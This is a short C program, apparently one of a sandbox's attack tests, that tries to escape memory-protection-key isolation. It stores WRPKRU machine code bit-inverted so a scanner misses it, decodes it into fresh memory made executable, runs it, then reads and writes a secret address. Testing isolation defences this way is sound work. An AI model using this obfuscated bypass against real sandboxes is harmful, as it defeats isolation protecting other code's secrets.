/* Run a WRPKRU of one's own, in fresh executable memory.
 * Defence: W^X, and the scanner of whatever becomes executable.  Control: off=scan. */
#include "attack.h"

#define PROT_RW 3
#define PROT_RX 5
#define MAP_PRIVATE_ANONYMOUS 0x22

/* Inverted, or the scanner would refuse this program before it runs. */
static volatile u8 inverted[] = {
    (u8)~0x31, (u8)~0xc9, (u8)~0x31, (u8)~0xd2, (u8)~0x31, (u8)~0xc0,   /* xor ecx, ecx; xor edx, edx; xor eax, eax */
    (u8)~0x0f, (u8)~0x01, (u8)~0xef, (u8)~0xc3,                         /* wrpkru; ret */
};

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    u8 *page = (u8 *)syscall(SYS_mmap, 0, 4096, PROT_RW, MAP_PRIVATE_ANONYMOUS, -1, 0);
    for (u64 i = 0; i < sizeof inverted; i++)
        page[i] = (u8)~inverted[i];
    i64 error = syscall(SYS_mprotect, page, 4096, PROT_RX);
    if (error) {
        print("refused: mprotect gives %ld\n", error);
        return 1;
    }
    ((void (*)(void))page)();
    volatile u64 *secret = (volatile u64 *)hexadecimal(argv[1]);
    u64 value = *secret;         /* both now: the next system call gives the rights back */
    *secret = 1;
    print("read %lx\nwrote\n", value);
    return 0;
}
